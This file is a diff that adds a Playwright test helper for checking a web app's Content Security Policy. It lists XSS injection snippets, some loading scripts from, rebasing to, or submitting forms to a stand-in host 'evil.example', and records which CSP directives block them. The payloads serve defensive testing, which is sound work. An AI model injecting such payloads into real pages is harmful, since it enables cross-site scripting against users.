@@ -1,0 +1,44 @@
+import type { BrowserContext } from "playwright-core"
+
+/** What a page that believed it would run: `ran` is a function of the browser's that no page of ours calls. */
+export const ILL_WORDS = '"><img src=x onerror=ran()>'
+
+/** What a hole in a page would let in, each with the directive that stops it. */
+export const HOLES: [directive: string, script: string][] = [
+  ["script-src-attr", `document.body.insertAdjacentHTML("beforeend", "<img src=/none onerror=ran()>")`],
+  ["script-src-elem", `document.body.append(Object.assign(document.createElement("script"), { textContent: "ran()" }))`],
+  [
+    "script-src-elem",
+    `document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/ran.js" }))`,
+  ],
+  ["object-src", `document.body.append(Object.assign(document.createElement("object"), { data: "/none" }))`],
+  ["base-uri", `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }))`],
+  [
+    "form-action",
+    `{ const form = document.body.appendChild(document.createElement("form")); form.action = "https://evil.example/"; form.submit() }`,
+  ],
+]
+
+export interface Policed {
+  /** addresses at which a word was run */
+  ran: string[]
+  /** `directive address`, of what a page's policy stopped */
+  stopped: string[]
+}
+
+/** Listens, on every page of a browser window, for words that were run and for what the pages' policies stopped. */
+export async function policed(context: BrowserContext): Promise<Policed> {
+  const heard: Policed = { ran: [], stopped: [] }
+  await context.exposeFunction("ran", () => void heard.ran.push("ran"))
+  await context.exposeFunction("stopped", (what: string) => void heard.stopped.push(what))
+  await context.addInitScript(
+    `addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+      window.stopped(effectiveDirective + " " + location.host + location.pathname + " " + blockedURI))`
+  )
+  context.on("dialog", (dialog) => {
+    heard.ran.push(`dialog ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+
+  return heard
+}
